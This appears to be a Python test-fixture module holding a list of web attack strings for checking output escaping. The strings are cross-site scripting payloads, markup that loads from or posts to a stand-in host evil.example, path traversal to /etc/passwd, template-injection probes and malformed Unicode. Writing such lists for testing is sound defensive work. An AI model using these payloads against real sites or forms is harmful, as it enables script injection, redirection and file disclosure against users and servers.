"""Texts that try to become more than text."""

from __future__ import annotations

_TAGS = [f"<{tag}>" for tag in ("script", "style", "title", "textarea", "xmp", "noscript", "iframe", "template", "svg")]
_ENDS = [f"</{tag}>" for tag in ("style", "title", "bdi", "p", "div", "article", "main", "body", "html", "table", "dl")]
_MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example>",
    "<embed src=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input autofocus onfocus=alert(1)>",
    "<video src=https://evil.example/x autoplay>",
    "<details open ontoggle=alert(1)>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--",
    "-->",
    "--!><script>alert(1)</script>",
    "<![CDATA[",
    "]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x>",
    "<plaintext>",
    "<a href=javascript:alert(1)>x</a>",
    "<b",
    "<",
    ">",
    "</",
]
_ATTRIBUTES = [
    '"',
    "'",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)" x="',
    "`onerror=alert(1)`",
    "x onerror=alert(1)",
    '" style="background:url(https://evil.example)',
    "&quot; onload=&quot;alert(1)",
    "&#34;&#62;&#60;script&#62;alert(1)",
    "&lt;script&gt;",
    "&amp;",
    "&",
    "&#x0;",
]
_ADDRESSES = [
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'><script>",
    "https://evil.example/\nX",
    "../../../../etc/passwd",
    "..\\..\\windows",
]
_TEMPLATES = ["{{ 7*7 }}", "{% raw %}", "{# x #}", "{{ ''.__class__ }}", "${7*7}", "<%= 7*7 %>", "%s%n", "{0}"]
_TURNED = ["\u202eevil\u202c", "\u2066x", "\u2028", "\u200b" * 9]
_LETTERS = [*_TURNED, "\x00", "\x1b[31m", "\ufeff=1", "\ud800", "a" * 5000, "\r\n\r\n"]

PAYLOADS = [*_TAGS, *_ENDS, *_MARKUP, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES, *_LETTERS]
